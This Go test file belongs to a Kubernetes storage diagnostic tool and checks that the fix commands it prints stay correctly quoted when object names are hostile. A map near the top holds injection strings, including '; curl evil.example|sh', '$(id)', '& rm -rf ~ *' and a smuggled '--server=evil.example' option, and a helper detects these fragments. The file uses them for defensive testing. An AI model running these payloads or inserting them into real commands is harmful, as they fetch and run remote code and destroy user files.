package explain

import (
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	rules "github.com/purser-csi/purser/internal/explain/rules"
	"github.com/purser-csi/purser/internal/printable"
	command "github.com/purser-csi/purser/internal/roles/explain"
	"github.com/purser-csi/purser/internal/shell"
	"github.com/purser-csi/purser/test/explain/properties"
)

// hostile are changes of a name: other commands, expansions, quotes, several words and options.
var hostile = map[string]func(name string) string{
	"a command":    func(name string) string { return name + `; curl evil.example|sh #` },
	"an expansion": func(name string) string { return name + "$(id)`id`'\"" },
	"words":        func(name string) string { return name + " --all\n& rm -rf ~ *" },
	"an option":    func(name string) string { return "--server=evil.example?" + name },
}

// TestCommandsWithHostileNames explains every situation with names that a shell acts on. Each command that is
// printed has, split as a shell does it, the words that it has with the names of the situation.
func TestCommandsWithHostileNames(t *testing.T) {
	base, all := readSituations(t)
	compared := 0
	for _, s := range all {
		for _, o := range s.Objects {
			complete(o)
		}
		var want [][]string
		for _, line := range commandsOf(t, s, base, s.Explain, "shop") {
			words, err := properties.Split(line)
			if err != nil {
				t.Errorf("%s: %s: %v", s.Name, line, err)
			}
			want = append(want, words)
		}
		for kind, change := range hostile {
			names := namesOf(append(slices.Clone(base), s.Objects...), change)
			altered := s
			altered.Objects, _ = renamed(s.Objects, names).([]map[string]any)
			object, name, _ := strings.Cut(s.Explain, "/")
			if to, is := names[name]; is {
				name = to
			}
			var others []map[string]any
			others, _ = renamed(base, names).([]map[string]any)
			for _, line := range commandsOf(t, altered, others, object+"/"+name, names["shop"]) {
				words, err := properties.Split(line)
				if err == nil && slices.ContainsFunc(want, func(of []string) bool { return slices.EqualFunc(words, of, sameWord(names)) }) {
					compared++
					continue
				}
				if err == nil && s.Derived && !slices.ContainsFunc(words, isPartOfHostile(names)) {
					continue
				}
				t.Errorf("%s, %s: %s: words %q, %v; with harmless names %q", s.Name, kind, line, words, err, want)
			}
		}
	}
	t.Logf("%d commands", compared)
	if compared < 300 {
		t.Errorf("%d commands were compared", compared)
	}
}

// sameWord compares a word with hostile names and one with the names of the situation.
func sameWord(names map[string]string) func(a, b string) bool {
	return func(a, b string) bool {
		if a == b || a == shell.Placeholder && names[b] != "" {
			return true
		}
		for name, to := range names {
			if strings.Contains(b, name) && a == strings.ReplaceAll(b, name, printable.Line(to)) {
				return true
			}
		}
		return false
	}
}

// isPartOfHostile reports whether a word has a part of a hostile name, and not all of it.
func isPartOfHostile(names map[string]string) func(word string) bool {
	return func(word string) bool {
		for _, to := range names {
			word = strings.ReplaceAll(word, printable.Line(to), "")
		}
		return strings.ContainsAny(word, ";|$`*&") || strings.Contains(word, "evil") || word == "--all" || word == "-rf"
	}
}

// commandsOf returns the commands of the answer.
func commandsOf(t *testing.T, s situation, base []map[string]any, object, namespace string) (lines []string) {
	t.Helper()
	out, err := run(t, "explain", object, "-n", namespace, "--now", now, "-o", "json", "--from", s.dump(t, base))
	var answer command.Answer
	if json.Unmarshal([]byte(out), &answer) != nil || len(answer.Reports) != 1 || answer.Reports[0].State == rules.Unknown && s.State != rules.Unknown {
		t.Fatalf("%s: %s: %v: %s", s.Name, object, err, out)
	}
	findings := answer.Reports[0].Findings
	if refused := answer.Reports[0].Refused; refused != nil {
		findings = append(findings, *refused)
	}
	for _, f := range findings {
		for _, step := range f.Fix {
			if step.Command != "" {
				lines = append(lines, string(step.Command))
			}
		}
	}
	return lines
}

// madeOfUID matches names that a controller makes of the uid of a claim.
var madeOfUID = regexp.MustCompile(`^(pvc|prime|populate)-uid-`)

// namesOf returns the hostile names for those that the objects have and refer to. Names of drivers, of
// leases and of their namespace stay, which select what a component is, and those that a controller makes
// and a text has: of attachments, secrets, quotas and limits.
func namesOf(objects []map[string]any, change func(string) string) map[string]string {
	names := map[string]string{}
	note := func(value any) {
		if name, _ := value.(string); name != "" && name != "kube-system" && name != "disk.example.com" && !strings.HasPrefix(name, "csi-") && !madeOfUID.MatchString(name) {
			names[name] = change(name)
		}
	}
	var refer func(value any)
	refer = func(value any) {
		switch v := value.(type) {
		case []any:
			for _, inner := range v {
				refer(inner)
			}
		case map[string]any:
			for field, inner := range v {
				switch field {
				case "volumeName", "storageClassName", "nodeName", "claimName", "persistentVolumeName", "namespace":
					note(inner)
				}
				refer(inner)
			}
		}
	}
	for _, o := range objects {
		if kind := fmt.Sprint(o["kind"]); !slices.Contains([]string{"Lease", "CSIDriver", "Secret", "ResourceQuota", "LimitRange"}, kind) {
			metadata, _ := o["metadata"].(map[string]any)
			note(metadata["name"])
		}
		refer(o)
	}
	return names
}

// renamed returns a copy of a value with other names. Messages name objects within a text.
func renamed(value any, names map[string]string) any {
	switch v := value.(type) {
	case string:
		if to, is := names[v]; is {
			return to
		}
	case []map[string]any:
		var out []map[string]any
		for _, inner := range v {
			o, _ := renamed(inner, names).(map[string]any)
			out = append(out, o)
		}
		return out
	case []any:
		var out []any
		for _, inner := range v {
			out = append(out, renamed(inner, names))
		}
		return out
	case map[string]any:
		out := map[string]any{}
		for field, inner := range v {
			switch field {
			case "kind", "apiVersion", "phase", "message", "reason", "component", "driver", "provisioner":
				out[field] = inner
			default:
				if class, rest, is := strings.Cut(field, ".storageclass."); is { // of a quota
					field = names[class] + ".storageclass." + rest
				}
				out[field] = renamed(inner, names)
			}
		}
		return out
	}
	return value
}
